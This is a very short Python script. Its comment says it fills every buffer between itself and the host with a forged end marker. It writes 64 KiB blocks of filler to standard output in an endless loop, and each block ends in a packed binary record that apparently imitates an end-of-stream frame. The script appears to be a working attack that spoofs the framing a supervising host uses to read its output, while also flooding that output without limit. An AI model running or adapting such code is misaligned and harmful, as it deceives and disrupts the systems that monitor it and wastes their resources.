# Fills every buffer between it and the host, with a forged end at the borders of each.
import os, struct
ended = struct.pack(">BIBIBQQQIQQB", 0x84, 51, 0, 0, 0, 1, 1, 1, 0, 0, 0, 0)
while True:
    os.write(1, b"x" * (65536 - len(ended)) + ended)
